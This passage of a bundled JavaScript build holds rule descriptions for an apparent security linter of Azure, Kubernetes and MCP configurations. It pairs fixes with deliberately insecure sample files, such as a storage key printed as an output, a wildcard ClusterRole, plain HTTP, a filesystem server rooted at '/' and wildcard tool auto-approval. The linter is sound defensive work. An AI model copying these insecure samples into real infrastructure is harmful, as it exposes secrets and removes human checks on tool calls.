   why: "When a container group is deleted its name under `azurecontainer.io` is free at once, and the default `Unsecure` lets every subscription of Azure take it. Clients that still have the address then send their calls, with their tokens, to a server of somebody else.",
   fix: "Set `dns_name_label_reuse_policy` (azurerm) or `autoGeneratedDomainNameLabelScope` (Bicep, ARM) to `TenantReuse`, `SubscriptionReuse`, `ResourceGroupReuse` or `Noreuse`, or give the group a private address.",
   securitySeverity: 4.3,
   references: [ "https://learn.microsoft.com/azure/container-instances/how-to-reuse-dns-names" ],
   bad: {
    file: "main.tf",
    text: `resource "azurerm_user_assigned_identity" "docs" {\n  name                = "id-mcp-docs"\n  location            = "westeurope"\n  resource_group_name = "rg-mcp"\n}\n\nresource "azurerm_container_group" "docs" {\n  name                = "aci-mcp-docs"\n  location            = "westeurope"\n  resource_group_name = "rg-mcp"\n  os_type             = "Linux"\n  ip_address_type     = "Public"\n  dns_name_label      = "acme-mcp-docs"\n\n  identity {\n    type         = "UserAssigned"\n    identity_ids = [azurerm_user_assigned_identity.docs.id]\n  }\n\n  container {\n    name   = "mcp-docs"\n    image  = "acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111"\n    cpu    = 0.5\n    memory = 0.5\n\n    ports {\n      port     = 8443\n      protocol = "TCP"\n    }\n  }\n\n  tags = {\n    MCPServer = "true"\n  }\n}\n`
   },
   good: {
    file: "main.tf",
    text: `resource "azurerm_user_assigned_identity" "docs" {\n  name                = "id-mcp-docs"\n  location            = "westeurope"\n  resource_group_name = "rg-mcp"\n}\n\nresource "azurerm_container_group" "docs" {\n  name                = "aci-mcp-docs"\n  location            = "westeurope"\n  resource_group_name = "rg-mcp"\n  os_type             = "Linux"\n  ip_address_type     = "Private"\n  subnet_ids          = [var.subnet_id]\n\n  identity {\n    type         = "UserAssigned"\n    identity_ids = [azurerm_user_assigned_identity.docs.id]\n  }\n\n  container {\n    name   = "mcp-docs"\n    image  = "acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111"\n    cpu    = 0.5\n    memory = 0.5\n\n    ports {\n      port     = 8443\n      protocol = "TCP"\n    }\n  }\n\n  tags = {\n    MCPServer = "true"\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/secret-output.about.js
  const storage = `resource storage 'Microsoft.Storage/storageAccounts@2023-05-01' existing = {\n  name: 'stmcp'\n}\n\n`;
  const secret_output_about_about = {
   summary: "Key or password is exposed by an output",
   why: "Outputs of a deployment stand in its history, where everyone who may read the resource group can see them, for as long as the history is kept. Outputs of Terraform are printed into the log of the pipeline unless they are marked. A key that stands there works from anywhere, and the copy goes unnoticed.",
   fix: "Expose the id or the endpoint, and let the reader use an identity with a role. If a key has to be passed on, write it to Key Vault in the same deployment, or mark the output `sensitive = true` (Terraform), `@secure()` (Bicep), `securestring` (ARM).",
   securitySeverity: 6.5,
   references: [ "https://learn.microsoft.com/azure/azure-resource-manager/bicep/linter-rule-outputs-should-not-contain-secrets", "https://developer.hashicorp.com/terraform/language/values/outputs" ],
   bad: {
    file: "storage.bicep",
    text: `${storage}output storageKey string = storage.listKeys().keys[0].value\n`
   },
   good: {
    file: "storage.bicep",
    text: `${storage}output storageId string = storage.id\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/server-without-identity.about.js
  const server_without_identity_about_about = {
   summary: "MCP server has no identity of its own",
   why: "Without an identity a server reaches databases, vaults and registries with stored keys, which are copied, do not expire and name nobody in a log. An identity that is declared for the server alone has just the rights that it needs, and outlives a new deployment of it. A system-assigned identity is a note: it goes with its resource, so that its rights have to be given again, and they are given too widely.",
   fix: "Declare a user-assigned identity for each server, give it the roles that this server needs, and let the registry accept it for pulls.",
   securitySeverity: 5.3,
   references: [ "https://learn.microsoft.com/entra/identity/managed-identities-azure-resources/managed-identity-best-practice-recommendations" ],
   bad: {
    file: "main.bicep",
    text: `resource environment 'Microsoft.App/managedEnvironments@2024-03-01' = {\n  name: 'cae-tools'\n  location: resourceGroup().location\n}\n\nresource identity 'Microsoft.ManagedIdentity/userAssignedIdentities@2024-11-30' = {\n  name: 'id-mcp-docs'\n  location: resourceGroup().location\n}\n\nresource server 'Microsoft.App/containerApps@2024-03-01' = {\n  name: 'ca-mcp-docs'\n  location: resourceGroup().location\n  properties: {\n    environmentId: environment.id\n    configuration: {\n      ingress: {\n        external: false\n        targetPort: 8000\n      }\n    }\n    template: {\n      containers: [\n        {\n          name: 'mcp-docs'\n          image: 'acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111'\n        }\n      ]\n    }\n  }\n}\n`
   },
   good: {
    file: "main.bicep",
    text: `resource environment 'Microsoft.App/managedEnvironments@2024-03-01' = {\n  name: 'cae-tools'\n  location: resourceGroup().location\n}\n\nresource identity 'Microsoft.ManagedIdentity/userAssignedIdentities@2024-11-30' = {\n  name: 'id-mcp-docs'\n  location: resourceGroup().location\n}\n\nresource server 'Microsoft.App/containerApps@2024-03-01' = {\n  name: 'ca-mcp-docs'\n  location: resourceGroup().location\n  identity: {\n    type: 'UserAssigned'\n    userAssignedIdentities: {\n      '\${identity.id}': {}\n    }\n  }\n  properties: {\n    environmentId: environment.id\n    configuration: {\n      ingress: {\n        external: false\n        targetPort: 8000\n      }\n    }\n    template: {\n      containers: [\n        {\n          name: 'mcp-docs'\n          image: 'acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111'\n        }\n      ]\n    }\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/shared-identity.about.js
  const shared_identity_about_about = {
   summary: "MCP server shares its identity with another workload",
   why: "A server that is tricked or broken into acts with the rights of its identity. Where several workloads run with one identity, each has the rights that any of them needs: the server for documents can read the tickets, and the log of Azure does not say which of them it was. An identity that may only pull images is left alone.",
   fix: "Declare one user-assigned identity for each server, and give each the roles that this server needs.",
   securitySeverity: 7.1,
   references: [ "https://learn.microsoft.com/entra/identity/managed-identities-azure-resources/managed-identity-best-practice-recommendations" ],
   bad: {
    file: "main.tf",
    text: `resource "azurerm_user_assigned_identity" "docs" {\n  name                = "id-mcp-docs"\n  location            = "westeurope"\n  resource_group_name = "rg-mcp"\n}\n\nresource "azurerm_container_app" "docs" {\n  name                         = "ca-mcp-docs"\n  container_app_environment_id = var.environment_id\n  resource_group_name          = "rg-mcp"\n  revision_mode                = "Single"\n\n  identity {\n    type         = "UserAssigned"\n    identity_ids = [azurerm_user_assigned_identity.docs.id]\n  }\n\n  template {\n    container {\n      name   = "mcp-docs"\n      image  = "acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111"\n      cpu    = 0.25\n      memory = "0.5Gi"\n    }\n  }\n}\n\nresource "azurerm_container_app" "tickets" {\n  name                         = "ca-mcp-tickets"\n  container_app_environment_id = var.environment_id\n  resource_group_name          = "rg-mcp"\n  revision_mode                = "Single"\n\n  identity {\n    type         = "UserAssigned"\n    identity_ids = [azurerm_user_assigned_identity.docs.id]\n  }\n\n  template {\n    container {\n      name   = "mcp-tickets"\n      image  = "acme.azurecr.io/mcp-tickets@sha256:2222222222222222222222222222222222222222222222222222222222222222"\n      cpu    = 0.25\n      memory = "0.5Gi"\n    }\n  }\n}\n`
   },
   good: {
    file: "main.tf",
    text: `resource "azurerm_user_assigned_identity" "docs" {\n  name                = "id-mcp-docs"\n  location            = "westeurope"\n  resource_group_name = "rg-mcp"\n}\n\nresource "azurerm_user_assigned_identity" "tickets" {\n  name                = "id-mcp-tickets"\n  location            = "westeurope"\n  resource_group_name = "rg-mcp"\n}\n\nresource "azurerm_container_app" "docs" {\n  name                         = "ca-mcp-docs"\n  container_app_environment_id = var.environment_id\n  resource_group_name          = "rg-mcp"\n  revision_mode                = "Single"\n\n  identity {\n    type         = "UserAssigned"\n    identity_ids = [azurerm_user_assigned_identity.docs.id]\n  }\n\n  template {\n    container {\n      name   = "mcp-docs"\n      image  = "acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111"\n      cpu    = 0.25\n      memory = "0.5Gi"\n    }\n  }\n}\n\nresource "azurerm_container_app" "tickets" {\n  name                         = "ca-mcp-tickets"\n  container_app_environment_id = var.environment_id\n  resource_group_name          = "rg-mcp"\n  revision_mode                = "Single"\n\n  identity {\n    type         = "UserAssigned"\n    identity_ids = [azurerm_user_assigned_identity.tickets.id]\n  }\n\n  template {\n    container {\n      name   = "mcp-tickets"\n      image  = "acme.azurecr.io/mcp-tickets@sha256:2222222222222222222222222222222222222222222222222222222222222222"\n      cpu    = 0.25\n      memory = "0.5Gi"\n    }\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/unattached-network-rules.about.js
  const unattached_network_rules_about_about = {
   summary: "Network security group is attached to nothing",
   why: "A network security group has an effect only on the subnets and network interfaces that it is attached to. One that is declared and never attached reads as protection in a review, and lets everything through. A group that is passed on, by an output or to a module, is never reported, as it may be attached elsewhere.",
   fix: "Attach it: `azurerm_subnet_network_security_group_association` in Terraform, `networkSecurityGroup` in the properties of the subnet in Bicep and ARM. Delete a group that nobody needs.",
   securitySeverity: 5.9,
   references: [ "https://learn.microsoft.com/azure/virtual-network/network-security-group-how-it-works" ],
   bad: {
    file: "network.tf",
    text: `resource "azurerm_subnet" "mcp" {\n  name                 = "snet-mcp"\n  resource_group_name  = "rg-mcp"\n  virtual_network_name = "vnet-mcp"\n  address_prefixes     = ["10.50.1.0/24"]\n}\n\nresource "azurerm_network_security_group" "mcp" {\n  name                = "nsg-mcp"\n  location            = "westeurope"\n  resource_group_name = "rg-mcp"\n\n  security_rule {\n    name                       = "AllowGateway"\n    priority                   = 100\n    direction                  = "Inbound"\n    access                     = "Allow"\n    protocol                   = "Tcp"\n    source_address_prefix      = "10.50.2.0/27"\n    source_port_range          = "*"\n    destination_address_prefix = "*"\n    destination_port_range     = "8443"\n  }\n}\n`
   },
   good: {
    file: "network.tf",
    text: `resource "azurerm_subnet" "mcp" {\n  name                 = "snet-mcp"\n  resource_group_name  = "rg-mcp"\n  virtual_network_name = "vnet-mcp"\n  address_prefixes     = ["10.50.1.0/24"]\n}\n\nresource "azurerm_network_security_group" "mcp" {\n  name                = "nsg-mcp"\n  location            = "westeurope"\n  resource_group_name = "rg-mcp"\n\n  security_rule {\n    name                       = "AllowGateway"\n    priority                   = 100\n    direction                  = "Inbound"\n    access                     = "Allow"\n    protocol                   = "Tcp"\n    source_address_prefix      = "10.50.2.0/27"\n    source_port_range          = "*"\n    destination_address_prefix = "*"\n    destination_port_range     = "8443"\n  }\n}\n\nresource "azurerm_subnet_network_security_group_association" "mcp" {\n  subnet_id                 = azurerm_subnet.mcp.id\n  network_security_group_id = azurerm_network_security_group.mcp.id\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/unencrypted-endpoint.about.js
  const unencrypted_endpoint_about_about = {
   summary: "Endpoint of an MCP server takes calls without TLS",
   why: "A call to an MCP server carries a bearer token, and the answer carries what the caller may see. Over plain HTTP anyone on the path can read both, and the token is good for an hour of calls; TLS 1.0 and 1.1 are broken and no longer supported. It is an error at endpoints that the Internet reaches, and a note inside of a network. What only redirects to HTTPS is left alone.",
   fix: "Turn HTTP off at the host (`https_only`, `allow_insecure_connections`, `allowInsecure`), end TLS at the listener or the Ingress, and let the gateway call the server by `https://`.",
   securitySeverity: 7.4,
   references: [ "https://learn.microsoft.com/azure/container-apps/ingress-overview", "https://learn.microsoft.com/azure/app-service/overview-tls" ],
   bad: {
    file: "main.bicep",
    text: `resource environment 'Microsoft.App/managedEnvironments@2024-03-01' = {\n  name: 'cae-tools'\n  location: resourceGroup().location\n}\n\nresource identity 'Microsoft.ManagedIdentity/userAssignedIdentities@2024-11-30' = {\n  name: 'id-mcp-docs'\n  location: resourceGroup().location\n}\n\nresource server 'Microsoft.App/containerApps@2024-03-01' = {\n  name: 'ca-mcp-docs'\n  location: resourceGroup().location\n  identity: {\n    type: 'UserAssigned'\n    userAssignedIdentities: {\n      '\${identity.id}': {}\n    }\n  }\n  properties: {\n    environmentId: environment.id\n    configuration: {\n      ingress: {\n        external: false\n        allowInsecure: true\n        targetPort: 8000\n      }\n    }\n    template: {\n      containers: [\n        {\n          name: 'mcp-docs'\n          image: 'acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111'\n        }\n      ]\n    }\n  }\n}\n`
   },
   good: {
    file: "main.bicep",
    text: `resource environment 'Microsoft.App/managedEnvironments@2024-03-01' = {\n  name: 'cae-tools'\n  location: resourceGroup().location\n}\n\nresource identity 'Microsoft.ManagedIdentity/userAssignedIdentities@2024-11-30' = {\n  name: 'id-mcp-docs'\n  location: resourceGroup().location\n}\n\nresource server 'Microsoft.App/containerApps@2024-03-01' = {\n  name: 'ca-mcp-docs'\n  location: resourceGroup().location\n  identity: {\n    type: 'UserAssigned'\n    userAssignedIdentities: {\n      '\${identity.id}': {}\n    }\n  }\n  properties: {\n    environmentId: environment.id\n    configuration: {\n      ingress: {\n        external: false\n        allowInsecure: false\n        targetPort: 8000\n      }\n    }\n    template: {\n      containers: [\n        {\n          name: 'mcp-docs'\n          image: 'acme.azurecr.io/mcp-docs@sha256:1111111111111111111111111111111111111111111111111111111111111111'\n        }\n      ]\n    }\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/unpinned-image.about.js
  const unpinned_image_about_about = {
   summary: "MCP server runs an image that is not pinned by its digest",
   why: "What was reviewed and scanned is one image. Anyone who can push to the registry can move a tag to another image, and `latest`, or no tag at all, moves with each push: the next restart of the server runs an image that was never reviewed. A digest names the content itself. Reported for what serves MCP (`mcp` in its name, image, container or settings, a probe of `/mcp`, or `servers` of the configuration). Images that kustomizations or templates set, that are built beside the service, and placeholders of azd are left alone.",
   fix: "Name the image by digest, `registry/image@sha256:…`, or `registry/image:1.2@sha256:…` to show the version as well. `docker buildx imagetools inspect registry/image:1.2` prints the digest, and Dependabot and Renovate keep it up to date.",
   securitySeverity: 5.5,
   references: [ "https://docs.docker.com/build/building/best-practices/#pin-base-image-versions", "https://kubernetes.io/docs/concepts/containers/images/#image-names" ],
   bad: {
    file: "compose.yaml",
    text: `services:\n  mcp-github:\n    image: acme.azurecr.io/mcp-github:latest\n`
   },
   good: {
    file: "compose.yaml",
    text: `services:\n  mcp-github:\n    image: acme.azurecr.io/mcp-github@sha256:0f3b9d1c7f5e4a86b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/about.js
  const governance_about_abouts = {
   "anonymous-server": anonymous_server_about_about,
   "gateway-side-door": gateway_side_door_about_about,
   "missing-server-tag": missing_server_tag_about_about,
   "open-network-rule": open_network_rule_about_about,
   "plain-secret-environment": plain_secret_environment_about_about,
   "public-data-store": public_data_store_about_about,
   "public-server": public_server_about_about,
   "registry-password": registry_password_about_about,
   "removed-argument": removed_argument_about_about,
   "reusable-dns-label": reusable_dns_label_about_about,
   "secret-output": secret_output_about_about,
   "server-without-identity": server_without_identity_about_about,
   "shared-identity": shared_identity_about_about,
   "unattached-network-rules": unattached_network_rules_about_about,
   "unencrypted-endpoint": unencrypted_endpoint_about_about,
   "unpinned-image": unpinned_image_about_about
  };
  var governance = __webpack_require__(21179);
  // CONCATENATED MODULE: ./build/shared/lint/rules/house/invalid-ignore.about.js
  const invalid_ignore_about_about = {
   summary: "An ignore has no reason, names no known rule or has ended",
   why: "An ignore is a decision that somebody else has to understand a year later. Without a reason, with a mistyped rule, or after the day on which it was to end, it silences nothing; this finding says why.",
   fix: "Write `mcp-gatehouse: ignore[rule-id] reason` in a comment on the line of the finding or alone on the line above; several rules are separated by commas. For an ignore of the configuration that has ended, fix the findings or give it a new day in `until`.",
   securitySeverity: 1,
   references: [],
   bad: {
    file: ".vscode/mcp.json",
    text: `{\n  "servers": {\n    "files": {\n      "command": "npx",\n      // mcp-gatehouse: ignore[root-filesystem]\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/"]\n    }\n  }\n}\n`
   },
   good: {
    file: ".vscode/mcp.json",
    text: `{\n  "servers": {\n    "files": {\n      "command": "npx",\n      // mcp-gatehouse: ignore[root-filesystem] runs in a container that holds only test data\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/"]\n    }\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/house/overridden-setting.about.js
  const overridden_setting_about_about = {
   summary: "A setting of the repository is not applied: the organization's policy does not leave it open",
   why: "A repository under a central policy may be stricter than it, and looser only where the policy says so in `may-relax`. A severity, an ignore, a baseline or an allow-list that goes further is left out, and what the policy says stays in force. This finding marks the line, so that nobody believes it holds.",
   fix: "Remove the setting and fix what it was for. Where the repository has a good reason, ask the owners of the policy to open the setting, or the one rule, in `may-relax`.",
   securitySeverity: 1,
   references: [],
   policy: `may-relax: [exclude]\n`,
   bad: {
    file: ".vscode/mcp.json",
    text: `{\n  "servers": {\n    "files": {\n      "command": "npx",\n      // mcp-gatehouse: ignore[root-filesystem] it is only a test\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/"]\n    }\n  }\n}\n`
   },
   good: {
    file: ".vscode/mcp.json",
    text: `{\n  "servers": {\n    "files": {\n      "command": "npx",\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "docs"]\n    }\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/house/self-exempting-change.about.js
  const self_exempting_change_about_about = {
   summary: "A pull request loosens the configuration, baseline, workflow or ignore that judges it",
   why: "A pull request is judged by files that it brings along: the configuration of this tool, its baseline, the workflow or pipeline that runs it, and the ignore comments. One that adds a stored credential together with the ignore for it is green, and the reviewer sees a green check. This finding says what a change loosens and where, so that somebody decides it on purpose. No ignore and no baseline silences it, since the same change could bring those as well. A command that a change adds before the check and that rewrites the configuration or the baseline, or checks another commit out, is reported too, as far as its words say so; what a program or another script does is not seen. Changes that only make things stricter are not reported.",
   fix: "Look at the change as you would at a change of permissions. Where it is wanted, approve it, or merge it first and by itself. With `config-from: base` the configuration and the baseline of the base judge the pull request; with code owners for these files, each such change has a reviewer; with a policy of the organization, a repository cannot loosen what the policy keeps. To leave the check out, set the rule to `off` in the base.",
   securitySeverity: 5,
   references: [],
   bad: {
    file: ".mcp-gatehouse.yml",
    base: `rules:\n  unpinned-action: error\n`,
    text: `rules:\n  unpinned-action: error\n  stored-credential: off\n`
   },
   good: {
    file: ".mcp-gatehouse.yml",
    base: `rules:\n  unpinned-action: warning\n`,
    text: `rules:\n  unpinned-action: error\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/house/unreadable-file.about.js
  const unreadable_file_about_about = {
   summary: "A workflow, pipeline or MCP configuration cannot be read",
   why: "What cannot be parsed cannot be checked: a file that is broken for this tool may still be read by a more tolerant client, with everything in it. The search for known credentials ran over its text all the same.",
   fix: "Fix the syntax at the given place. A file that is not meant to be valid, such as a template, can be left out with `exclude` in the configuration.",
   securitySeverity: 4,
   references: [],
   bad: {
    file: ".mcp.json",
    text: '{"mcpServers": {"docs": {"url": "https://mcp.example.com/docs" }\n'
   },
   good: {
    file: ".mcp.json",
    text: '{"mcpServers": {"docs": {"url": "https://mcp.example.com/docs"}}}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/house/unused-ignore.about.js
  const unused_ignore_about_about = {
   summary: "An ignore silences nothing",
   why: "An ignore that outlives its finding waits for the next one: a new credential in the same place would be accepted unseen, with a reason that was written for something else.",
   fix: "Remove the ignore. If the finding has moved, move the comment with it: onto the same line, or alone onto the line above. Ignores of rules that did not run are not reported, nor are ignores of the configuration when only a part of the repository was linted.",
   securitySeverity: 1,
   references: [],
   bad: {
    file: ".vscode/mcp.json",
    text: `{\n  "servers": {\n    // mcp-gatehouse: ignore[root-filesystem] the container has nothing else\n    "docs": { "url": "https://mcp.example.com/docs" }\n  }\n}\n`
   },
   good: {
    file: ".vscode/mcp.json",
    text: `{\n  "servers": {\n    "docs": { "url": "https://mcp.example.com/docs" }\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/house/about.js
  const house_about_abouts = {
   "invalid-ignore": invalid_ignore_about_about,
   "overridden-setting": overridden_setting_about_about,
   "self-exempting-change": self_exempting_change_about_about,
   "unreadable-file": unreadable_file_about_about,
   "unused-ignore": unused_ignore_about_about
  };
  var house = __webpack_require__(54543);
  // CONCATENATED MODULE: ./build/shared/lint/rules/kubernetes/local-cluster-accounts.about.js
  const local_cluster_accounts_about_about = {
   summary: "Cluster keeps local accounts beside Entra ID",
   why: "Entra ID on a cluster does not remove the local administrator: anyone who can list its credentials gets a certificate that Conditional Access, groups and offboarding do not cover, and the audit log names no person. Local accounts are on unless they are turned off. Where the value is a parameter without a default, nothing is reported.",
   fix: "Set `disableLocalAccounts: true` beside `aadProfile` (Terraform: `local_account_disabled = true`; command line: `--disable-local-accounts` beside `--enable-aad`), then rotate the cluster certificates: those already issued stay valid.",
   securitySeverity: 6,
   references: [ "https://learn.microsoft.com/azure/aks/manage-local-accounts-managed-azure-ad" ],
   bad: {
    file: "aks.bicep",
    text: `resource cluster 'Microsoft.ContainerService/managedClusters@2024-09-01' = {\n  name: 'aks-mcp'\n  location: 'westeurope'\n  properties: {\n    dnsPrefix: 'mcp'\n    aadProfile: {\n      managed: true\n      enableAzureRBAC: true\n    }\n  }\n}\n`
   },
   good: {
    file: "aks.bicep",
    text: `resource cluster 'Microsoft.ContainerService/managedClusters@2024-09-01' = {\n  name: 'aks-mcp'\n  location: 'westeurope'\n  properties: {\n    dnsPrefix: 'mcp'\n    aadProfile: {\n      managed: true\n      enableAzureRBAC: true\n    }\n    disableLocalAccounts: true\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/kubernetes/missing-network-policy.about.js
  const missing_network_policy_about_about = {
   summary: "Namespace of MCP servers has no network policy that closes it",
   why: "Pods are open to every other pod of the cluster until a network policy selects them. A namespace with MCP servers and without a policy lets any other pod call their tools without the gateway, and lets a server that was taken over call everything else. Policies for named pods leave the others of the namespace open. A note, as the policies may stand in another repository; charts are left alone, as they are installed into namespaces of others.",
   fix: "Start with a policy for all pods (`podSelector: {}`) that names both `policyTypes` and allows nothing, then add one for what each server needs. The cluster needs a network policy engine: in AKS `networkPolicy` of the network profile.",
   securitySeverity: 4,
   references: [ "https://kubernetes.io/docs/concepts/services-networking/network-policies/#default-deny-all-ingress-and-all-egress-traffic", "https://learn.microsoft.com/azure/aks/use-network-policies" ],
   bad: {
    file: "k8s/server.yaml",
    text: `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: mcp-github\n  namespace: mcp\nspec:\n  template:\n    spec:\n      containers:\n        - name: server\n          image: acme.azurecr.io/mcp-github@sha256:0f3b9d1c7f5e4a86b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9\n`
   },
   good: {
    file: "k8s/server.yaml",
    text: `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: mcp-github\n  namespace: mcp\nspec:\n  template:\n    spec:\n      containers:\n        - name: server\n          image: acme.azurecr.io/mcp-github@sha256:0f3b9d1c7f5e4a86b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9\n---\napiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: default-deny\n  namespace: mcp\nspec:\n  podSelector: {}\n  policyTypes: [Ingress, Egress]\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/kubernetes/open-network-policy.about.js
  const open_network_policy_about_about = {
   summary: "Kubernetes network policy allows all traffic in or out",
   why: "Network policies add up: what one of them allows no other can take back. A rule without `from`, with `0.0.0.0/0` or with `namespaceSelector: {}` alone lets every pod of the cluster, and often every address, call the server itself, past the gateway that checks tokens. A rule for `egress` without limits lets a server that was taken over reach everything else. `podSelector: {}` under `from` means the pods of the same namespace and is not reported, nor are selectors that narrow one another in one item.",
   fix: "Name who needs it: a `podSelector`, a `namespaceSelector` with labels, or the `ipBlock` of the gateway's subnet. For what goes out name the destination and the `ports`. Selectors in one item of the list hold together; each item by itself adds to the others.",
   securitySeverity: 6.5,
   references: [ "https://kubernetes.io/docs/concepts/services-networking/network-policies/", "https://learn.microsoft.com/azure/aks/use-network-policies" ],
   bad: {
    file: "k8s/network-policy.yaml",
    text: `apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: mcp-github\n  namespace: mcp\nspec:\n  podSelector: {}\n  policyTypes: [Ingress]\n  ingress:\n    - from:\n        - namespaceSelector: {}\n`
   },
   good: {
    file: "k8s/network-policy.yaml",
    text: `apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: mcp-github\n  namespace: mcp\nspec:\n  podSelector: {}\n  policyTypes: [Ingress]\n  ingress:\n    - from:\n        - namespaceSelector:\n            matchLabels:\n              kubernetes.io/metadata.name: gateway\n      ports:\n        - port: 8443\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/kubernetes/personal-binding.about.js
  const personal_binding_about_about = {
   summary: "Binding grants cluster rights to one person",
   why: "A right that is bound to one account stays in the repository when the person changes the team or leaves, and removing the account from a group does not remove it. Only a search through all bindings does. Users of the cluster itself (`system:`) and service accounts of clouds are not reported; an object id may be that of an application, and is a note.",
   fix: "Bind a group of the directory: `kind: Group` with the object id of the group as `name`. For a workload bind its ServiceAccount.",
   securitySeverity: 5,
   references: [ "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#referring-to-subjects", "https://learn.microsoft.com/azure/aks/kubernetes-rbac-entra-id" ],
   bad: {
    file: "k8s/rbac.yaml",
    text: `apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata:\n  name: read-pods\n  namespace: mcp\nsubjects:\n  - kind: User\n    name: jane.doe@example.com\n    apiGroup: rbac.authorization.k8s.io\nroleRef:\n  kind: Role\n  name: pod-reader\n  apiGroup: rbac.authorization.k8s.io\n`
   },
   good: {
    file: "k8s/rbac.yaml",
    text: `apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata:\n  name: read-pods\n  namespace: mcp\nsubjects:\n  - kind: Group\n    name: 11111111-2222-4333-8444-555555555555\n    apiGroup: rbac.authorization.k8s.io\nroleRef:\n  kind: Role\n  name: pod-reader\n  apiGroup: rbac.authorization.k8s.io\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/kubernetes/wildcard-cluster-role.about.js
  const wildcard_cluster_role_about_about = {
   summary: "Cluster role allows everything, or lets its holder take more rights",
   why: "A ClusterRole holds in every namespace. `*` as a resource covers Secrets and whatever is added later, `*` as a verb covers `escalate`, `bind` and `impersonate`, and with one of these a subject gives itself the rights of any other. An attacker who takes over a server with such a role is the administrator of the cluster. Wildcards on resources that an operator defines itself are not reported, nor are roles that others are aggregated into, and those of the cluster itself (`system:`).",
   fix: "List the API groups, resources and verbs that are needed. Limit `bind`, `escalate` and `impersonate` by `resourceNames`. Where one namespace is enough, use a Role and a RoleBinding.",
   securitySeverity: 8.4,
   references: [ "https://kubernetes.io/docs/concepts/security/rbac-good-practices/", "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#privilege-escalation-prevention-and-bootstrapping" ],
   bad: {
    file: "k8s/rbac.yaml",
    text: `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: mcp-operator\nrules:\n  - apiGroups: ['*']\n    resources: ['*']\n    verbs: ['*']\n`
   },
   good: {
    file: "k8s/rbac.yaml",
    text: `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: mcp-operator\nrules:\n  - apiGroups: ['']\n    resources: [pods]\n    verbs: [get, list, watch]\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/kubernetes/about.js
  const kubernetes_about_abouts = {
   "local-cluster-accounts": local_cluster_accounts_about_about,
   "missing-network-policy": missing_network_policy_about_about,
   "open-network-policy": open_network_policy_about_about,
   "personal-binding": personal_binding_about_about,
   "wildcard-cluster-role": wildcard_cluster_role_about_about
  };
  var kubernetes = __webpack_require__(50281);
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/auto-approved-tools.about.js
  const auto_approved_tools_about_about = {
   summary: "MCP tools are called without asking",
   why: "The question before a tool is called is the last point at which a person can see that a page or an issue has talked the model into something. A wildcard answers it for every tool of the server, those included that a later version adds. `enableAllProjectMcpServers` does so for every server that anyone puts into the project.",
   fix: "List the tools that only read, by name, and let the client ask for the others. A list of reading tools is only noted.",
   securitySeverity: 5.5,
   references: [ "https://modelcontextprotocol.io/specification/2025-06-18/server/tools", "https://genai.owasp.org/llmrisk/llm062025-excessive-agency/" ],
   bad: {
    file: ".roo/mcp.json",
    text: '{\n  "mcpServers": {\n    "tracker": {"command": "npx", "args": ["-y", "tracker-mcp@1.2.3"], "alwaysAllow": ["*"]}\n  }\n}\n'
   },
   good: {
    file: ".roo/mcp.json",
    text: '{\n  "mcpServers": {\n    "tracker": {"command": "npx", "args": ["-y", "tracker-mcp@1.2.3"], "alwaysAllow": []}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/broad-filesystem.about.js
  const broad_filesystem_about_about = {
   summary: "MCP server has access to a home, to a folder of credentials or to a parent of the workspace",
